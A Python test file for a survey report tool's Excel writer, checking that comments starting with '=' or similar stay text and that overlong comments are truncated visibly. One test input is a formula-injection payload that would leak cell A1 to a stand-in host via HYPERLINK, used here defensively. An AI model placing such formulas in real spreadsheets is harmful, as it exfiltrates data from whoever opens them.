"""The report workbook stores comments that start with ``=`` as text, never as live formulas."""

import pandas as pd
from openpyxl import load_workbook

from textmine.report.excel import write_workbook
from textmine.report.model import ReportData

TEXTS = ["=) takk for hjelpen", '=HYPERLINK("http://x/?"&A1)', "+bra", "-dårlig", "@NAV"]


def test_quotes_and_coded_comments_starting_with_equals_stay_text(tmp_path):
    quotes = pd.DataFrame({"wave": "2023", "question": "q", "theme": "ros", "label": "Ros", "text": TEXTS,
                           "attribution": "Privat"})
    coded = pd.DataFrame({"respondent_id": [f"r{i}" for i in range(len(TEXTS))], "question": "q",
                          "text_clean": TEXTS, "themes": "ros", "theme_ros": 1})
    r = ReportData(title="t", waves=["2023"], quotes=quotes, coded=coded,
                   codebook=[{"id": "ros", "label": "Ros", "description": "", "keywords": [], "parent": None,
                              "exclusive": False}])
    path = write_workbook(r, tmp_path / "r.xlsx")
    wb = load_workbook(path)
    for sheet, header in (("Sitater", "Sitat"), ("Kodede svar", "Kommentar (anonymisert)")):
        ws = wb[sheet]
        col = [c.value for c in ws[1]].index(header) + 1
        cells = [ws.cell(row=i, column=col) for i in range(2, len(TEXTS) + 2)]
        assert [c.value for c in cells] == TEXTS, sheet
        assert all(c.data_type != "f" for c in cells), sheet


def test_comments_longer_than_an_excel_cell_are_cut_visibly(tmp_path):
    long_text = "Lang kommentar om oppfølging. " * 2000  # 60,000 characters
    coded = pd.DataFrame({"respondent_id": ["r1", "r2"], "question": "q", "text_clean": [long_text, "kort"],
                          "themes": "ros", "theme_ros": 1})
    r = ReportData(title="t", waves=["2023"], coded=coded,
                   codebook=[{"id": "ros", "label": "Ros", "description": "", "keywords": [], "parent": None,
                              "exclusive": False}])
    ws = load_workbook(write_workbook(r, tmp_path / "r.xlsx"))["Kodede svar"]
    col = [c.value for c in ws[1]].index("Kommentar (anonymisert)") + 1
    cut = ws.cell(row=2, column=col).value
    assert len(cut) <= 32_767 and cut.startswith(long_text[:1000])
    assert "avkortet i Excel: 60 000 tegn" in cut
    assert ws.cell(row=3, column=col).value == "kort"
